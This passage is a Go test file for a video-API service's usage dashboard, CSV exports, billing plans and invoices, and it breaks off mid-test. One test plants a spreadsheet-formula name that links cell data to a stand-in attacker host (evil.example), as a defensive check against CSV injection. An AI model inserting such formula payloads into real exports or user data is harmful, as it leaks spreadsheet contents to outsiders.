package handlers_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"gorm.io/gorm"

	"switchboard/models"
	"switchboard/models/billing"
	"switchboard/models/dbtest"
	"switchboard/models/tenancy"
	"switchboard/models/usage"
)

// today is the current UTC day, as the usage page counts days.
func today() time.Time {
	n := time.Now().UTC()
	return time.Date(n.Year(), n.Month(), n.Day(), 0, 0, 0, 0, time.UTC)
}

// usageOrg is an organization with an administrator and a regular member
// who both used things in the last days, next to another organization.
type usageOrg struct {
	app           *testApp
	admin, member models.User
	org           tenancy.Scope
	ac, mc        *client
}

func newUsageOrg(t *testing.T, db *gorm.DB) usageOrg {
	t.Helper()
	app := newApp(t, db)
	admin, org, ac := orgAdmin(t, app)
	member, mc := app.member(t, org, tenancy.RoleMember)
	d := today()
	dbtest.InsertUsage(t, db, []dbtest.UsageRow{
		dbtest.Usage(org.AccountID(), d.Format(time.DateOnly), admin.ID, usage.MetricAPIRequests, "indexes.read", 1234),
		dbtest.Usage(org.AccountID(), d.AddDate(0, 0, -1).Format(time.DateOnly), member.ID, usage.MetricAPIRequests, "videos.read", 56),
		dbtest.Usage(org.AccountID(), d.Format(time.DateOnly), member.ID, usage.MetricIndexingSeconds, "", 600),
		dbtest.Usage(org.AccountID(), d.Format(time.DateOnly), admin.ID, usage.MetricStorageSeconds, "", 7200),
		dbtest.Usage(org.AccountID(), d.AddDate(0, 0, -40).Format(time.DateOnly), admin.ID, usage.MetricAPIRequests, "indexes.write", 777_000),
	})
	return usageOrg{app: app, admin: admin, member: member, org: org, ac: ac, mc: mc}
}

func TestUsagePageForAdministrator(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		r := f.ac.get("/settings/usage").status(http.StatusOK)
		d := r.doc()
		charts := d.Find(`svg[role="img"]`)
		if charts.Length() != 3 {
			t.Fatalf("%d SVG charts, want 3 (requests, indexing, storage)", charts.Length())
		}
		charts.Each(func(i int, s *goquery.Selection) {
			if strings.TrimSpace(s.ChildrenFiltered("title").Text()) == "" || s.ChildrenFiltered("desc").Length() != 1 {
				t.Errorf("chart %d has no <title> and <desc>", i)
			}
			if s.Find("rect").Length() != 30 {
				t.Errorf("chart %d has %d bars, want 30", i, s.Find("rect").Length())
			}
			if s.Find("rect > title").Length() != 30 {
				t.Errorf("chart %d: not every bar has a <title>", i)
			}
		})
		if n := d.Find(`[data-testid="table-requests"] tbody tr`).Length(); n != 30 {
			t.Errorf("the requests table has %d rows, want 30", n)
		}
		totals := d.Find(`[data-testid="usage-totals"]`).Text()
		if !strings.Contains(totals, "1,290") || !strings.Contains(totals, "10 min") || !strings.Contains(totals, "2.0 h") {
			t.Errorf("totals %q, want 1,290 requests, 10 min indexing and 2.0 h held", strings.Join(strings.Fields(totals), " "))
		}
		cats := d.Find(`[data-testid="category-table"]`).Text()
		if !strings.Contains(cats, "indexes.read") || !strings.Contains(cats, "1,234") || !strings.Contains(cats, "videos.read") || strings.Contains(cats, "indexes.write") {
			t.Errorf("categories %q", strings.Join(strings.Fields(cats), " "))
		}
		members := d.Find(`[data-testid="member-usage"] tbody tr`)
		if members.Length() != 2 {
			t.Fatalf("%d member rows, want 2", members.Length())
		}
		first, second := members.Eq(0).Text(), members.Eq(1).Text()
		if !strings.Contains(first, f.admin.Name) || !strings.Contains(first, f.admin.Email) || !strings.Contains(first, "1,234") ||
			!strings.Contains(first, "2.0 hour-days") || !strings.Contains(second, f.member.Name) || !strings.Contains(second, f.member.Email) || !strings.Contains(second, "10 min") {
			t.Errorf("member breakdown:\n%s\n%s", strings.Join(strings.Fields(first), " "), strings.Join(strings.Fields(second), " "))
		}
		if href, _ := d.Find(`a[href^="/settings/usage.csv"]`).Attr("href"); href != "/settings/usage.csv?range=30d" {
			t.Errorf("CSV link %q", href)
		}
		if d.Find(`[data-testid="own-usage-notice"]`).Length() != 0 {
			t.Error("an administrator is told the page shows only their own usage")
		}
		r.contains("all members")
		if d.Find(`a[href="/settings/billing"]`).Length() == 0 {
			t.Error("an administrator's menu has no Billing & Plan")
		}
	})
}

func TestUsagePageForRegularMember(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		r := f.mc.get("/settings/usage").status(http.StatusOK)
		d := r.doc()
		notice := d.Find(`[data-testid="own-usage-notice"]`).Text()
		if !strings.Contains(notice, "your own usage") || !strings.Contains(notice, "administrators") {
			t.Errorf("notice %q", notice)
		}
		if d.Find(`[data-testid="member-usage"]`).Length() != 0 {
			t.Error("a regular member sees the per-member breakdown")
		}
		totals := strings.Join(strings.Fields(d.Find(`[data-testid="usage-totals"]`).Text()), " ")
		if !strings.Contains(totals, "56") || strings.Contains(totals, "1,290") || strings.Contains(totals, "1,234") || !strings.Contains(totals, "10 min") {
			t.Errorf("a member's totals %q, want their own 56 requests and 10 min", totals)
		}
		if strings.Contains(r.Body, "indexes.read") || strings.Contains(r.Body, "1,234") {
			t.Error("a member sees the administrator's requests")
		}
		for _, s := range []string{f.admin.Name, f.admin.Email} {
			r.lacks(s)
		}
		if d.Find(`a[href="/settings/billing"]`).Length() != 0 {
			t.Error("a regular member's menu offers Billing & Plan")
		}
		for _, q := range []string{"", "?range=90d", "?month=" + billing.MonthOf(time.Now()).String()} {
			csvr := f.mc.get("/settings/usage.csv" + q).status(http.StatusOK)
			csvr.lacks(f.admin.Email).lacks(f.admin.Name).lacks("indexes.read")
			if q == "" {
				recs := readCSV(t, csvr.Body)
				if len(recs) != 3 {
					t.Fatalf("a member's CSV has %d records, want a header and their 2 rows:\n%s", len(recs), csvr.Body)
				}
				for _, rec := range recs[1:] {
					if rec[2] != f.member.Email {
						t.Errorf("a member's CSV has a row of %q", rec[2])
					}
				}
			}
		}
	})
}

func TestUsagePageForPersonalAccount(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		app := newApp(t, db)
		u, personal, c := app.user(t)
		dbtest.InsertUsage(t, db, []dbtest.UsageRow{dbtest.Usage(personal.AccountID(), today().Format(time.DateOnly), u.ID, usage.MetricAPIRequests, "videos.read", 4321)})
		// They also belong to an organization whose usage is not theirs to see here.
		owner, _ := dbtest.User(t, db)
		org := dbtest.AddMember(t, db, dbtest.Org(t, db, owner), u, tenancy.RoleMember)
		dbtest.InsertUsage(t, db, []dbtest.UsageRow{dbtest.Usage(org.AccountID(), today().Format(time.DateOnly), owner.ID, usage.MetricAPIRequests, "videos.read", 987_654)})
		c.switchTo(personal.Account().PublicID)
		r := c.get("/settings/usage").status(http.StatusOK)
		// (As the page writes it: a bare "999" may be part of an ID.)
		r.contains("4,321").lacks("987,654").lacks(owner.Email)
		if r.doc().Find(`[data-testid="own-usage-notice"]`).Length() != 0 {
			t.Error("a personal account is told organization-wide usage is for administrators")
		}
		if r.doc().Find(`[data-testid="member-usage"]`).Length() != 0 {
			t.Error("a personal account's usage is broken down by member")
		}
		r.lacks("all members")
		c.get("/settings/billing").status(http.StatusOK)
		recs := readCSV(t, c.get("/settings/usage.csv").status(http.StatusOK).Body)
		if len(recs) != 2 || recs[1][5] != "4321" {
			t.Errorf("personal CSV %v", recs)
		}
	})
}

func TestUsagePageRanges(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		now := time.Now().UTC()
		cur := billing.MonthOf(now)
		last := cur.Prev()
		for _, c := range []struct {
			query  string
			bars   int
			label  string
			active string
		}{
			{"?range=7d", 7, "Last 7 days", "/settings/usage?range=7d"},
			{"?range=30d", 30, "Last 30 days", "/settings/usage?range=30d"},
			{"?range=90d", 90, "Last 90 days", "/settings/usage?range=90d"},
			{"", 30, "Last 30 days", "/settings/usage?range=30d"},
			{"?month=" + last.String(), last.Days(), last.Label(), "/settings/usage?month=" + last.String()},
			{"?month=" + cur.String(), cur.Days(), cur.Label(), "/settings/usage?month=" + cur.String()},
		} {
			r := f.ac.get("/settings/usage" + c.query).status(http.StatusOK)
			d := r.doc()
			if n := d.Find(`[data-testid="chart-requests"] svg rect`).Length(); n != c.bars {
				t.Errorf("%s: %d bars, want %d", c.query, n, c.bars)
			}
			r.contains(c.label)
			if href, _ := d.Find(`nav[aria-label="Period"] a[aria-current="page"]`).Attr("href"); href != c.active {
				t.Errorf("%s: the active period links to %q, want %q", c.query, href, c.active)
			}
		}
		// The 90 days include the usage of 40 days ago; 30 days do not.
		f.ac.get("/settings/usage?range=90d").contains("777,000")
		f.ac.get("/settings/usage?range=30d").lacks("777,000")
		tooOld := billing.MonthOf(now.AddDate(-2, -1, 0))
		for _, q := range []string{"range=5d", "range=7", "range=all", "range=30d%00", "month=2026-13", "month=garbage", "month=" + billing.MonthOf(cur.End()).String(),
			"month=" + tooOld.String(), "month=" + cur.String() + "-01"} {
			f.ac.get("/settings/usage?" + q).status(http.StatusBadRequest)
			f.ac.get("/settings/usage.csv?" + q).status(http.StatusBadRequest)
		}
	})
}

func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV (%v):\n%s", err, body)
	}
	return recs
}

func TestUsageCSV(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		r := f.ac.get("/settings/usage.csv").status(http.StatusOK)
		if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("Content-Type %q", ct)
		}
		if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="usage-30d.csv"` {
			t.Errorf("Content-Disposition %q", cd)
		}
		if r.Header.Get("Cache-Control") != "no-store" {
			t.Errorf("Cache-Control %q", r.Header.Get("Cache-Control"))
		}
		recs := readCSV(t, r.Body)
		if strings.Join(recs[0], ",") != "day,member,email,metric,category,quantity,unit" {
			t.Fatalf("header %v", recs[0])
		}
		if len(recs) != 5 {
			t.Fatalf("%d records, want a header and the 4 rows of the last 30 days:\n%s", len(recs), r.Body)
		}
		want := []string{today().Format(time.DateOnly), f.admin.Name, f.admin.Email, usage.MetricAPIRequests, "indexes.read", "1234", "requests"}
		found := false
		for _, rec := range recs[1:] {
			if strings.Join(rec, "|") == strings.Join(want, "|") {
				found = true
			}
			if q, err := strconv.ParseInt(rec[5], 10, 64); err != nil || q <= 0 {
				t.Errorf("row %v: quantity is not a positive number", rec)
			}
		}
		if !found {
			t.Errorf("no row %v in:\n%s", want, r.Body)
		}
		last := billing.MonthOf(time.Now()).Prev().String()
		m := f.ac.get("/settings/usage.csv?month=" + last).status(http.StatusOK)
		if cd := m.Header.Get("Content-Disposition"); cd != `attachment; filename="usage-`+last+`.csv"` {
			t.Errorf("month export Content-Disposition %q", cd)
		}
		if recs := readCSV(t, f.ac.get("/settings/usage.csv?range=90d").Body); len(recs) != 6 {
			t.Errorf("90 days: %d records, want 6", len(recs))
		}
	})
}

// TestCSVExportsCannotCarryFormulas: a member who names themselves like a
// spreadsheet formula gets the name exported as text, in the usage export
// and in invoices.
func TestCSVExportsCannotCarryFormulas(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		names := map[int64]string{f.admin.ID: `=HYPERLINK("https://evil.example/?"&A1,"Open")`, f.member.ID: "+1-555-0100"}
		for id, name := range names {
			if err := dbtest.Plain(t, db).Exec("UPDATE users SET name = ? WHERE id = ?", name, id).Error; err != nil {
				t.Fatal(err)
			}
		}
		id, _ := closedInvoice(t, db, f)
		exports := map[string]int{"/settings/usage.csv?range=90d": 1, "/settings/billing/invoices/" + id + ".csv": 2}
		for path, col := range exports {
			recs := readCSV(t, f.ac.get(path).status(http.StatusOK).Body)
			seen := 0
			for _, rec := range recs[1:] {
				cell := rec[col]
				if cell == "" {
					continue
				}
				if strings.ContainsRune("=+-@", rune(cell[0])) {
					t.Errorf("%s: the cell %q would be evaluated as a formula", path, cell)
				}
				for _, name := range names {
					if strings.HasPrefix(cell, "'"+name) {
						seen++
					}
				}
			}
			if seen == 0 {
				t.Errorf("%s: no member name exported as text (with a leading apostrophe):\n%v", path, recs)
			}
		}
	})
}

// Billing & Plan ---------------------------------------------------------------

func TestBillingPageRoles(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		r := f.ac.get("/settings/billing").status(http.StatusOK)
		d := r.doc()
		if n := d.Find(`[data-testid="plans"] [data-plan]`).Length(); n != 3 {
			t.Errorf("%d plans compared, want Free, Developer and Enterprise", n)
		}
		if cur := d.Find(`[data-plan="free"]`).Text(); !strings.Contains(cur, "Current plan") {
			t.Error("Free is not marked as the current plan")
		}
		if d.Find(`[data-plan="developer"] form[action="/settings/billing/plan"] input[name="plan"][value="developer"]`).Length() != 1 {
			t.Error("no upgrade to Developer offered")
		}
		if d.Find(`[data-plan="enterprise"] form`).Length() != 0 {
			t.Error("Enterprise is offered as a switch")
		}
		dev := d.Find(`[data-plan="developer"]`).Text()
		for _, s := range []string{"$49.00", "600", "50,000"} {
			if !strings.Contains(dev, s) {
				t.Errorf("the Developer column lacks %q: %s", s, strings.Join(strings.Fields(dev), " "))
			}
		}
		// This month's usage on Free: lines per member, all at $0.
		bill := d.Find(`[data-testid="bill-lines"]`)
		if bill.Find("tbody tr").Length() != 4 || strings.TrimSpace(d.Find(`[data-testid="bill-total"]`).Text()) != "$0.00" {
			t.Errorf("current bill: %d lines, total %q", bill.Find("tbody tr").Length(), d.Find(`[data-testid="bill-total"]`).Text())
		}
		if d.Find(`[data-testid="no-invoices"]`).Length() != 1 {
			t.Error("no word that there are no invoices yet")
		}

		// A regular member: 403 with a clear page, and no way there in the menu.
		denied := f.mc.get("/settings/billing").status(http.StatusForbidden)
		denied.contains("Not allowed").contains("Ask an administrator")
		if denied.doc().Find(`a[href="/settings/billing"]`).Length() != 0 {
			t.Error("the 403 page's menu links to Billing & Plan")
		}
		before := dumpTables(t, db, "accounts", "plan_changes", "billing_contacts", "enterprise_requests")
		f.mc.post("/settings/billing/plan", url.Values{"plan": {"developer"}}, "/settings/usage").status(http.StatusForbidden)
		f.mc.post("/settings/billing/contact", url.Values{"email": {"x@example.com"}, "address": {"1 Main St"}}, "/settings/usage").status(http.StatusForbidden)
		f.mc.post("/settings/billing/enterprise", url.Values{"seats": {"5"}}, "/settings/usage").status(http.StatusForbidden)
		if after := dumpTables(t, db, "accounts", "plan_changes", "billing_contacts", "enterprise_requests"); after != before {
			t.Error("a regular member's billing posts changed something")
		}
	})
}

// TestBillingPageOnEnterprise: an Enterprise account's terms are an
// agreement: the page offers no switch, no upgrade advice and no request
// for Enterprise, and a form from an older tab changes nothing.
func TestBillingPageOnEnterprise(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		stale := f.ac.guard("/settings/billing") // a tab opened while on Free
		if err := dbtest.Plain(t, db).Exec("UPDATE accounts SET plan = ? WHERE id = ?", tenancy.PlanEnterprise, f.org.AccountID()).Error; err != nil {
			t.Fatal(err)
		}
		r := f.ac.get("/settings/billing").status(http.StatusOK)
		d := r.doc()
		if !strings.Contains(d.Find(`[data-plan="enterprise"]`).Text(), "Current plan") {
			t.Error("Enterprise is not marked as the current plan")
		}
		if n := d.Find(`form[action="/settings/billing/plan"], form[action="/settings/billing/enterprise"]`).Length(); n != 0 {
			t.Errorf("an Enterprise account is offered %d plan or Enterprise forms", n)
		}
		if d.Find(`[data-testid="enterprise-current"]`).Length() != 1 {
			t.Error("the page does not say the account is on Enterprise")
		}
		r.lacks("Upgrading needs a billing email")

		before := dumpTables(t, db, "accounts", "plan_changes", "enterprise_requests", "audit_events")
		post := func(path string, form url.Values) *response {
			for k, v := range stale {
				form[k] = v
			}
			return f.ac.postRaw(path, form)
		}
		r = post("/settings/billing/enterprise", url.Values{"seats": {"5"}}).status(http.StatusConflict)
		if !strings.Contains(r.doc().Find(`[data-testid="plan-error"]`).Text(), "Enterprise contract") {
			t.Errorf("a repeated Enterprise request is not explained: %q", r.doc().Find(`[data-testid="plan-error"]`).Text())
		}
		post("/settings/billing/plan", url.Values{"plan": {"free"}}).status(http.StatusConflict)
		if after := dumpTables(t, db, "accounts", "plan_changes", "enterprise_requests", "audit_events"); after != before {
			t.Error("a stale tab's billing forms changed an Enterprise account")
		}
	})
}

// TestInvoiceHistoryIsPaginated: every closed invoice stays reachable from
// the billing page, however many months the account has been billed.
func TestInvoiceHistoryIsPaginated(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		const n = 37 // more than three years
		first := billing.MonthOf(time.Now()).Prev()
		m := first
		for i := range n {
			if err := dbtest.Plain(t, db).Exec(`INSERT INTO invoices (public_id, account_id, number, period, currency, total_minor, status, bill_to, created_at)
				VALUES (?, ?, ?, ?, 'USD', 100, 'issued', 'Acme', ?)`,
				fmt.Sprintf("%024d", i+1), f.org.AccountID(), "SB-TEST-"+m.String(), m.String(), m.End()).Error; err != nil {
				t.Fatal(err)
			}
			m = m.Prev()
		}
		oldest := m.Start().AddDate(0, 1, 0)
		d := f.ac.get("/settings/billing").status(http.StatusOK).doc()
		if rows := d.Find(`[data-testid="invoice-table"] tbody tr`).Length(); rows != tenancy.DefaultPageSize {
			t.Errorf("the first page lists %d invoices, want %d", rows, tenancy.DefaultPageSize)
		}
		next, ok := d.Find(`[data-testid="pagination"] a[rel="next"]`).Attr("href")
		if !ok {
			t.Fatalf("no link to the older invoices")
		}
		older := f.ac.get(next).status(http.StatusOK)
		older.contains("SB-TEST-" + billing.MonthOf(oldest).String()).lacks("SB-TEST-" + first.String())
		if older.doc().Find(`[data-testid="no-invoices"]`).Length() != 0 {
			t.Error("the second page says there are no invoices")
		}
	})
}

// dumpTables is the rows of tables as text, to prove nothing was written.
func dumpTables(t testing.TB, db *gorm.DB, tables ...string) string {
	t.Helper()
	var sb strings.Builder
	for _, table := range tables {
		var rows []map[string]any
		if err := dbtest.Plain(t, db).Raw("SELECT * FROM " + table).Scan(&rows).Error; err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&sb, "%s: %v\n", table, rows)
	}
	return sb.String()
}

func accountPlan(t testing.TB, db *gorm.DB, id int64) tenancy.Plan {
	t.Helper()
	var p tenancy.Plan
	if err := dbtest.Plain(t, db).Raw("SELECT plan FROM accounts WHERE id = ?", id).Scan(&p).Error; err != nil {
		t.Fatal(err)
	}
	return p
}

func TestBillingPlanChange(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		acct := f.org.AccountID()
		key := newKey(t, db, f.org)
		limit := func() string {
			t.Helper()
			return apiCall(t, f.app, key, http.MethodGet, "/v1.3/indexes", "").status(http.StatusOK).Header.Get("X-Ratelimit-Limit")
		}
		if l := limit(); l != "60" {
			t.Fatalf("a Free account's limit %q, want 60 a minute", l)
		}

		r := f.ac.post("/settings/billing/plan", url.Values{"plan": {"developer"}}, "/settings/billing").status(http.StatusUnprocessableEntity)
		if msg := r.doc().Find(`[data-testid="plan-error"]`).Text(); !strings.Contains(msg, "billing email and address") {
			t.Errorf("plan error %q", msg)
		}
		if accountPlan(t, db, acct) != tenancy.PlanFree || countRows(t, db, "plan_changes", "") != 0 {
			t.Fatal("upgrading without a billing contact changed the plan")
		}
		for _, p := range []string{"enterprise", "gold", ""} {
			r := f.ac.post("/settings/billing/plan", url.Values{"plan": {p}}, "/settings/billing").status(http.StatusUnprocessableEntity)
			if r.doc().Find(`[data-testid="plan-error"]`).Length() != 1 {
				t.Errorf("plan %q: no message", p)
			}
		}

		f.ac.post("/settings/billing/contact", url.Values{"email": {"billing@example.com"}, "company": {"Acme"}, "address": {"1 Main St"}, "vat_id": {""}}, "/settings/billing").
			redirectsTo("/settings/billing")
		f.ac.post("/settings/billing/plan", url.Values{"plan": {"developer"}}, "/settings/billing").redirectsTo("/settings/billing")
		page := f.ac.get("/settings/billing").status(http.StatusOK)
		if flash := page.doc().Find(`[data-testid="flash"]`).Text(); !strings.Contains(flash, "Developer plan") || !strings.Contains(flash, "600") {
			t.Errorf("flash %q", flash)
		}
		if !strings.Contains(page.doc().Find(`[data-plan="developer"]`).Text(), "Current plan") {
			t.Error("Developer is not marked current after upgrading")
		}
		if accountPlan(t, db, acct) != tenancy.PlanDeveloper || countRows(t, db, "plan_changes", "account_id = ? AND plan = ?", acct, tenancy.PlanDeveloper) != 1 {
			t.Fatal("the upgrade is not recorded")
		}
		if l := limit(); l != "600" {
			t.Errorf("the next API request's limit %q, want Developer's 600 a minute", l)
		}
		// The current bill now has the fee from today.
		if !strings.Contains(page.doc().Find(`[data-testid="bill-lines"]`).Text(), "Developer plan, 1 of") {
			t.Errorf("no prorated fee line: %s", strings.Join(strings.Fields(page.doc().Find(`[data-testid="current-bill"]`).Text()), " "))
		}
		f.ac.post("/settings/billing/plan", url.Values{"plan": {"free"}}, "/settings/billing").redirectsTo("/settings/billing")
		if accountPlan(t, db, acct) != tenancy.PlanFree || limit() != "60" {
			t.Error("the downgrade did not apply")
		}
	})
}

func TestBillingContactFormRefusesBadInput(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		good := url.Values{"email": {"billing@example.com"}, "company": {"Acme"}, "address": {"1 Main St"}, "vat_id": {"DE123456789"}}
		with := func(k, v string) url.Values {
			out := url.Values{}
			for key, vs := range good {
				out[key] = vs
			}
			out.Set(k, v)
			return out
		}
		for _, c := range []struct {
			form  url.Values
			field string
		}{
			{with("email", ""), "email"},
			{with("email", "nope"), "email"},
			{with("address", "   "), "address"},
			{with("address", strings.Repeat("a", 1001)), "address"},
			{with("vat_id", "12345"), "vat_id"},
			{with("vat_id", "DE-1"), "vat_id"},
			{with("company", strings.Repeat("c", 201)), "company"},
		} {
			before := dumpTables(t, db, "billing_contacts", "audit_events")
			r := f.ac.post("/settings/billing/contact", c.form, "/settings/billing").status(http.StatusUnprocessableEntity)
			d := r.doc()
			if d.Find(`[data-testid="error-summary"]`).Length() != 1 {
				t.Errorf("%s: no error summary", c.field)
			}
			form := d.Find(`[data-testid="contact-form"]`)
			if v, _ := form.Find(`input[name="email"]`).Attr("value"); v != c.form.Get("email") {
				t.Errorf("%s: the email field lost what was typed: %q", c.field, v)
			}
			if strings.TrimSpace(form.Find(`textarea[name="address"]`).Text()) != strings.TrimSpace(c.form.Get("address")) {
				t.Errorf("%s: the address field lost what was typed", c.field)
			}
			if after := dumpTables(t, db, "billing_contacts", "audit_events"); after != before {
				t.Errorf("%s: a refused contact was written", c.field)
			}
		}
		f.ac.post("/settings/billing/contact", good, "/settings/billing").redirectsTo("/settings/billing")
		page := f.ac.get("/settings/billing").status(http.StatusOK)
		if v, _ := page.doc().Find(`input[name="vat_id"]`).Attr("value"); v != "DE123456789" {
			t.Errorf("the saved VAT ID shows as %q", v)
		}
		page.lacks("Upgrading needs a billing email and address")
	})
}

func TestBillingEnterpriseForm(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		for _, form := range []url.Values{
			{"seats": {""}},
			{"seats": {"abc"}},
			{"seats": {"0"}},
			{"seats": {"-5"}},
			{"seats": {"2000000"}},
			{"seats": {"5"}, "message": {strings.Repeat("m", 2001)}},
		} {
			r := f.ac.post("/settings/billing/enterprise", form, "/settings/billing").status(http.StatusUnprocessableEntity)
			r.contains(`data-testid="error-summary"`)
			if v, _ := r.doc().Find(`input[name="seats"]`).Attr("value"); v != form.Get("seats") {
				t.Errorf("seats %q came back as %q", form.Get("seats"), v)
			}
			if n := countRows(t, db, "enterprise_requests", ""); n != 0 {
				t.Fatalf("a refused request was recorded (%v)", form)
			}
		}
		f.ac.post("/settings/billing/enterprise", url.Values{"seats": {" 25 "}, "message": {"SSO and an agreement"}}, "/settings/billing").redirectsTo("/settings/billing")
		page := f.ac.get("/settings/billing").status(http.StatusOK)
		if page.doc().Find(`[data-testid="enterprise-requested"]`).Length() != 1 {
			t.Error("the page does not say Enterprise was requested")
		}
		if countRows(t, db, "enterprise_requests", "account_id = ? AND seats = 25", f.org.AccountID()) != 1 || accountPlan(t, db, f.org.AccountID()) != tenancy.PlanFree {
			t.Error("the request is not recorded, or it changed the plan")
		}
	})
}

// closedInvoice closes last month for an organization on Developer whose
// two members used things in it, and returns the invoice's public ID.
func closedInvoice(t *testing.T, db *gorm.DB, f usageOrg) (string, billing.Month) {
	t.Helper()
	last := billing.MonthOf(time.Now()).Prev()
	if err := dbtest.Plain(t, db).Exec("UPDATE accounts SET plan = ?, created_at = ? WHERE id = ?", tenancy.PlanDeveloper, last.Start().AddDate(0, -2, 0), f.org.AccountID()).Error; err != nil {
		t.Fatal(err)
	}
	// Only these rows in the month (newUsageOrg's may fall in it too).
	if err := dbtest.Plain(t, db).Exec("DELETE FROM usage_daily WHERE account_id = ? AND day >= ? AND day < ?", f.org.AccountID(),
		last.Start().Format(time.DateOnly), last.End().Format(time.DateOnly)).Error; err != nil {
		t.Fatal(err)
	}
	d := last.Start().AddDate(0, 0, 9)
	dbtest.InsertUsage(t, db, []dbtest.UsageRow{
		dbtest.Usage(f.org.AccountID(), d.Format(time.DateOnly), f.admin.ID, usage.MetricAPIRequests, "indexes.read", 100_000),
		dbtest.Usage(f.org.AccountID(), d.Format(time.DateOnly), f.member.ID, usage.MetricIndexingSeconds, "", 7_200),
		dbtest.Usage(f.org.AccountID(), d.Format(time.DateOnly), f.member.ID, usage.MetricStorageSeconds, "", 360_000),
	})
	f.ac.post("/settings/billing/contact", url.Values{"email": {"books@example.com"}, "company": {"Acme Video Labs"}, "address": {"1 Main St\nSpringfield"}}, "/settings/billing").
		redirectsTo("/settings/billing")
	if _, err := billing.CloseMonth(t.Context(), db, last, time.Now()); err != nil {
		t.Fatal(err)
	}
	var id string
	if err := dbtest.Plain(t, db).Raw("SELECT public_id FROM invoices WHERE account_id = ? AND period = ?", f.org.AccountID(), last.String()).Scan(&id).Error; err != nil || id == "" {
		t.Fatalf("no invoice for %s: %v", last, err)
	}
	return id, last
}

func TestInvoicePages(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
		f := newUsageOrg(t, db)
		id, last := closedInvoice(t, db, f)
		var inv billing.Invoice
		if err := dbtest.Plain(t, db).Raw("SELECT * FROM invoices WHERE public_id = ?", id).Scan(&inv).Error; err != nil {
			t.Fatal(err)
		}
		nLines := countRows(t, db, "invoice_lines", "invoice_id = ?", inv.ID)
		dev := billing.RateCards[tenancy.PlanDeveloper]
		wantTotal := dev.MonthlyFee + dev.APIRequest.Amount(100_000) + dev.IndexingSec.Amount(7_200) + dev.StorageSecDy.Amount(360_000)
		if inv.TotalMinor != wantTotal || nLines != 4 {
			t.Fatalf("invoice total %d with %d lines, want %d with 4", inv.TotalMinor, nLines, wantTotal)
		}
		total := fmt.Sprintf("$%d.%02d", wantTotal/100, wantTotal%100)

		list := f.ac.get("/settings/billing").status(http.StatusOK).doc().Find(`[data-testid="invoice-table"]`)
		if !strings.Contains(list.Text(), inv.Number) || !strings.Contains(list.Text(), last.Label()) || !strings.Contains(list.Text(), total) {
			t.Errorf("invoice history: %s", strings.Join(strings.Fields(list.Text()), " "))
		}
		for _, suffix := range []string{"", "/print", ".csv"} {
			if list.Find(`a[href="/settings/billing/invoices/`+id+suffix+`"]`).Length() != 1 {
				t.Errorf("the history does not link to %q", suffix)
			}
		}

		page := f.ac.get("/settings/billing/invoices/" + id).status(http.StatusOK)
		d := page.doc()
		page.contains(inv.Number).contains(last.Label()).contains("Acme Video Labs").contains("books@example.com")
		if n := d.Find(`[data-testid="invoice"] [data-testid="bill-lines"] tbody tr`).Length(); n != 4 {
			t.Errorf("the invoice page shows %d lines, want 4", n)
		}
		if got := strings.TrimSpace(d.Find(`[data-testid="bill-lines"] tfoot td`).Text()); got != total {
			t.Errorf("the invoice page's total %q, want %q", got, total)
		}
		lines := d.Find(`[data-testid="bill-lines"] tbody`).Text()
		for _, s := range []string{f.admin.Name, f.member.Name, "100,000 requests", "120.0 min", "100.0 hour-days", "Developer plan"} {
			if !strings.Contains(lines, s) {
				t.Errorf("the invoice lines lack %q: %s", s, strings.Join(strings.Fields(lines), " "))
			}
		}

		print := f.ac.get("/settings/billing/invoices/" + id + "/print").status(http.StatusOK)
		print.contains(inv.Number).contains(total).contains("Acme Video Labs")
		if print.doc().Find(`a[href="/settings/usage"]`).Length() != 0 {
			t.Error("the print view has the dashboard's menu")
		}

		c := f.ac.get("/settings/billing/invoices/" + id + ".csv").status(http.StatusOK)
		if c.Header.Get("Content-Type") != "text/csv; charset=utf-8" || c.Header.Get("Content-Disposition") != `attachment; filename="`+inv.Number+`.csv"` {
			t.Errorf("CSV headers %v", c.Header)
		}
		recs := readCSV(t, c.Body)
		if strings.Join(recs[0], ",") != "invoice,period,member,plan,metric,category,description,quantity,unit,unit_price_usd,amount_usd" || len(recs) != 6 {
			t.Fatalf("invoice CSV:\n%s", c.Body)
		}
		var sum int64
		for _, rec := range recs[1:5] {
			if rec[0] != inv.Number || rec[1] != last.String() {
				t.Errorf("line %v", rec)
			}
			sum += cents(t, rec[10])
		}
		if tot := recs[5]; tot[6] != "Total" || cents(t, tot[10]) != wantTotal || sum != wantTotal {
			t.Errorf("CSV total %v, lines sum to %d, want %d", tot, sum, wantTotal)
		}

